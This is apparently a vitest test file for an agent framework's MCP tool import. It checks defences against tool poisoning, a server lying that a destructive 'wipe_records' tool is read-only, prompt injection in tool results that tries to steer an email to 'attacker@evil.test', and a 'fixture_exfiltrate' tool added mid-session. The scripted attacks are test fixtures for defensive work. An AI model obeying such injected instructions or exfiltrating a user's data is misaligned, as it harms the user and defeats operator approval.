import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Agent, countTokens, defineTool, type Alert, type UsageRecord } from '@claw/core';
import { ScriptedModel } from '@claw/core/testing';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { z } from 'zod';
import { connectMcpServer, McpServerError, type McpConnection } from '../src/index';
import { INJECTION, startFixtureHttp, type FixtureHttpServer } from './fixtures/fixture-mcp-server';
import { tempDir, tsxCommand } from './support';

const principal = { id: 'priya', managerId: 'raj' };
const confirmedReads = { lookup: { trustAnnotations: true }, fetch_page: { trustAnnotations: true }, slow: { trustAnnotations: true }, rotate: { trustAnnotations: true }, fail_loudly: { trustAnnotations: true } };

describe('importing tools from an MCP server (Streamable HTTP)', () => {
  let fixture: FixtureHttpServer;
  let connection: McpConnection;

  beforeAll(async () => {
    fixture = await startFixtureHttp();
    connection = await connectMcpServer({ name: 'fixture', transport: { url: fixture.url }, tools: confirmedReads, timeoutMs: 1000 });
  });
  afterAll(async () => {
    await connection?.close();
    await fixture?.close();
  });

  it('imports every tool scoped mcp:<server>:<tool>, external unless the operator confirmed its annotations', () => {
    const byName = Object.fromEntries(connection.tools.map((t) => [t.mcpName, [t.tool.name, t.scope, t.effect, t.claimedEffect]]));
    expect(byName.lookup).toEqual(['fixture_lookup', 'mcp:fixture:lookup', 'read', 'read']);
    // It says read-only and closed-world; nobody confirmed that, so it is treated as acting outside.
    expect(byName.wipe_records).toEqual(['fixture_wipe_records', 'mcp:fixture:wipe_records', 'external', 'read']);
    // Its description tries to instruct the model (tool poisoning): kept out until the operator writes one.
    expect(connection.skipped).toEqual([{ tool: 'poisoned', reason: expect.stringContaining('reads like instructions to the model') }]);
    expect(connection.skill.instructions).toBe('');
    expect(connection.tools.every((t) => t.tool.untrustedOutput === true)).toBe(true);
  });

  it('offers nothing until granted, then only what is granted, with the server schema metered as tool_schemas', async () => {
    const bare = new ScriptedModel([{ text: 'I have no tools.' }]);
    const ungranted = new Agent({ model: bare, skills: [connection.skill], principal });
    await ungranted.run('What can you do?');
    expect(bare.requests[0]!.tools).toEqual([]);
    expect(ungranted.describePermissions().withheld.map((w) => w.name)).toContain('fixture_lookup');

    const model = new ScriptedModel([{ text: 'ok' }]);
    const usage: UsageRecord[] = [];
    const granted = new Agent({ model, skills: [connection.skill], principal, grants: ['mcp:fixture:lookup'] });
    granted.on('usage', (record) => usage.push(record));
    await granted.run('Look up k1');
    const [spec] = model.requests[0]!.tools;
    expect(model.requests[0]!.tools.map((t) => t.name)).toEqual(['fixture_lookup']);
    expect(spec!.inputSchema).toMatchObject({ type: 'object', properties: { key: { type: 'string', minLength: 1 } }, required: ['key'] });
    expect(spec!.inputSchema).not.toHaveProperty('$schema');
    expect(usage[0]!.estimate.tool_schemas).toBe(countTokens(JSON.stringify({ name: spec!.name, description: spec!.description, parameters: spec!.inputSchema }), usage[0]!.encoding as 'o200k_base'));
  });

  it('validates input against the JSON Schema before anything reaches the server', async () => {
    const model = new ScriptedModel([{ toolCalls: [{ name: 'fixture_lookup', input: { key: '' } }] }, { text: 'done' }]);
    const agent = new Agent({ model, skills: [connection.skill], principal, grants: ['mcp:fixture:lookup'], environment: 'production' });
    const before = fixture.state.lookups.length;
    const result = await agent.run('Look up nothing');
    expect(result.steps[0]!.toolResults[0]).toMatchObject({ status: 'error', errorCode: 'TOOL_INPUT' });
    expect(fixture.state.lookups.length).toBe(before);
  });

  it('a server lying that a tool is read-only cannot escape approval', async () => {
    const call = () => new ScriptedModel([{ toolCalls: [{ name: 'fixture_wipe_records', input: { table: 'users' } }] }, { text: 'done' }]);
    const base = { skills: [connection.skill], principal, grants: ['mcp:fixture:*'] };
    const suspended = await new Agent({ ...base, model: call(), environment: 'production' }).run('Show record statistics');
    expect(suspended.stopReason).toBe('suspended');
    expect(suspended.pending?.map((r) => [r.toolName, r.effect])).toEqual([['fixture_wipe_records', 'external']]);
    const denied = await new Agent({ ...base, model: call(), environment: 'production', approvals: async () => ({ decision: 'deny', approver: 'raj' }) }).run('Show record statistics');
    expect(denied.steps[0]!.toolResults[0]).toMatchObject({ status: 'denied', errorCode: 'APPROVAL_DENIED' });
    const sandbox = await new Agent({ ...base, model: call(), environment: 'sandbox' }).run('Show record statistics');
    expect(sandbox.steps[0]!.toolResults[0]!.status).toBe('previewed');
    expect(sandbox.actions[0]!.summary).toBe('would call "wipe_records" on the MCP server "fixture"');
    expect(fixture.state.wiped).toBe(0);
  });

  it('returns results and errors as untrusted content, and what they say cannot steer a send', async () => {
    const sent: string[] = [];
    const emailSend = defineTool({
      name: 'email_send',
      description: 'Send an email',
      input: z.object({ to: z.string(), body: z.string() }),
      scopes: ['email:send'],
      effect: 'external',
      execute: ({ to }) => void sent.push(to),
    });
    const model = new ScriptedModel([
      { toolCalls: [{ name: 'fixture_fetch_page', input: { url: 'https://example.test' } }, { name: 'fixture_fail_loudly', input: {} }] },
      { toolCalls: [{ name: 'email_send', input: { to: 'attacker@evil.test', body: 'all the mail' } }] },
      { text: 'done' },
    ]);
    const alerts: Alert[] = [];
    const agent = new Agent({
      model,
      skills: [connection.skill],
      tools: [emailSend],
      principal,
      grants: ['mcp:fixture:*', 'email:send'],
      environment: 'production',
      // Sends are normally allowed here: only the injected recipient makes this one wait.
      policy: { rules: [{ tool: 'email_send', verdict: 'allow' }] },
    });
    agent.on('alert', (alert) => alerts.push(alert));
    const result = await agent.run('Summarise https://example.test for me');
    const [page, failure] = result.steps[0]!.toolResults;
    expect(page!.content).toMatch(/^<untrusted-content source="fixture_fetch_page">\n<html>/);
    expect(failure).toMatchObject({ status: 'error', errorCode: 'EXTERNAL_SERVICE' });
    expect(failure!.content).toContain(`<untrusted-content source="mcp:fixture">\nfailed. ${INJECTION}`);
    expect(alerts.map((a) => a.kind)).toEqual(expect.arrayContaining(['prompt-injection-suspected', 'untrusted-influence']));
    expect(result.stopReason).toBe('suspended');
    expect(result.pending?.map((r) => r.toolName)).toEqual(['email_send']);
    expect(sent).toEqual([]);
  });

  it('refuses a tool the server changed mid-session and never offers a tool it added', async () => {
    const own = await startFixtureHttp();
    const changes: unknown[] = [];
    const conn = await connectMcpServer({ name: 'fixture', transport: { url: own.url }, tools: confirmedReads, onToolsChanged: (c) => changes.push(c) });
    try {
      const agent = (model: ScriptedModel) => new Agent({ model, skills: [conn.skill], principal, grants: ['mcp:fixture:*'], environment: 'production' });
      const first = await agent(new ScriptedModel([{ toolCalls: [{ name: 'fixture_rotate', input: {} }] }, { text: 'rotated' }])).run('Rotate the cache');
      expect(first.steps[0]!.toolResults[0]!.status).toBe('ok');
      await vi.waitFor(() => expect(conn.changes()).toEqual({ added: ['exfiltrate'], removed: [], changed: ['lookup'] }));
      expect(changes.length).toBeGreaterThan(0);

      const model = new ScriptedModel([
        { toolCalls: [{ name: 'fixture_lookup', input: { key: 'k1' } }, { name: 'fixture_exfiltrate', input: { to: 'attacker@evil.test' } }] },
        { text: 'done' },
      ]);
      const second = await agent(model).run('Look up k1');
      expect(model.requests[0]!.tools.map((t) => t.name)).not.toContain('fixture_exfiltrate');
      const [lookup, exfiltrate] = second.steps[0]!.toolResults;
      expect(lookup).toMatchObject({ status: 'error', errorCode: 'EXTERNAL_SERVICE' });
      expect(lookup!.content).toContain('changed the tool "lookup" after it was imported');
      expect(exfiltrate).toMatchObject({ status: 'error', errorCode: 'TOOL_NOT_FOUND' });
      expect(second.stopReason).toBe('final');
      expect(own.state.lookups).toEqual([]);
      expect(own.state.exfiltrated).toBe(0);
    } finally {
      await conn.close();
      await own.close();
    }
  });

  it('a tool that hangs times out with a typed error and the run ends', async () => {
    const model = new ScriptedModel([{ toolCalls: [{ name: 'fixture_slow', input: {} }] }, { text: 'It timed out.' }]);
    const agent = new Agent({ model, skills: [connection.skill], principal, grants: ['mcp:fixture:slow'], environment: 'production' });
    const result = await agent.run('Do the slow thing');
    expect(result.steps[0]!.toolResults[0]).toMatchObject({ status: 'error', errorCode: 'TOOL_TIMEOUT' });
    expect(result.stopReason).toBe('final');
  });
});

describe('importing tools from an MCP server over stdio', () => {
  it('starts the server process, calls a granted tool and stops it on close', async () => {
    const tmp = tempDir('claw-mcp-import-');
    const log = join(tmp.dir, 'calls.log');
    const { command, args, cwd } = tsxCommand('fixture-mcp-stdio.ts');
    const conn = await connectMcpServer({ name: 'local', transport: { command, args, cwd, env: { FIXTURE_LOG: log }, stderr: 'pipe' }, tools: { lookup: { name: 'record_lookup', scope: 'records:read', trustAnnotations: true } } });
    try {
      expect(conn.tools.find((t) => t.mcpName === 'lookup')).toMatchObject({ scope: 'records:read', effect: 'read' });
      const model = new ScriptedModel([{ toolCalls: [{ name: 'record_lookup', input: { key: 'k7' } }] }, { text: 'found' }]);
      const result = await new Agent({ model, skills: [conn.skill], principal, grants: ['records:read'], environment: 'production' }).run('Find k7');
      expect(result.steps[0]!.toolResults[0]!.content).toBe('<untrusted-content source="record_lookup">\nrecord k7: ok\n</untrusted-content>');
      expect(readFileSync(log, 'utf8')).toBe('lookup k7\n');
    } finally {
      await conn.close();
      tmp.remove();
    }
    expect(existsSync(log)).toBe(false);
  });

  it('a server that dies mid-run fails the call typed and the run ends', async () => {
    const tmp = tempDir('claw-mcp-crash-');
    const { command, args, cwd } = tsxCommand('fixture-mcp-stdio.ts');
    const conn = await connectMcpServer({ name: 'local', transport: { command, args, cwd, env: { FIXTURE_LOG: join(tmp.dir, 'calls.log') }, stderr: 'pipe' }, trustAnnotations: true, include: ['crash', 'lookup'] });
    try {
      expect(conn.tools.map((t) => t.mcpName).sort()).toEqual(['crash', 'lookup']);
      expect(conn.skipped.map((s) => [s.tool, s.reason])).toContainEqual(['wipe_records', 'not in `include`']);
      const reviewed = await connectMcpServer({ name: 'again', transport: { command, args, cwd, env: { FIXTURE_LOG: join(tmp.dir, 'calls.log') }, stderr: 'pipe' }, include: ['poisoned'], tools: { poisoned: { description: 'Adds numbers' } } });
      expect(reviewed.tools.map((t) => [t.mcpName, t.tool.description])).toEqual([['poisoned', 'Adds numbers']]);
      await reviewed.close();
      const model = new ScriptedModel([{ toolCalls: [{ name: 'local_crash', input: {} }] }, { toolCalls: [{ name: 'local_lookup', input: { key: 'k' } }] }, { text: 'The server is gone.' }]);
      const result = await new Agent({ model, skills: [conn.skill], principal, grants: ['mcp:local:*'], environment: 'production' }).run('Crash it');
      expect(result.steps[0]!.toolResults[0]).toMatchObject({ status: 'error', errorCode: 'EXTERNAL_SERVICE' });
      expect(result.steps[1]!.toolResults[0]).toMatchObject({ status: 'error', errorCode: 'EXTERNAL_SERVICE' });
      expect(result.steps[1]!.toolResults[0]!.content).toContain('The connection to the MCP server "local" is closed');
      expect(result.stopReason).toBe('final');
    } finally {
      await conn.close();
      tmp.remove();
    }
  });

  it('fails typed when the server never answers', async () => {
    const attempt = connectMcpServer({ name: 'mute', transport: { command: process.execPath, args: ['-e', 'setInterval(() => {}, 1000)'] }, timeoutMs: 300 });
    await expect(attempt).rejects.toBeInstanceOf(McpServerError);
    await expect(attempt).rejects.toMatchObject({ code: 'EXTERNAL_SERVICE', kind: 'connection', server: 'mute' });
  });
});
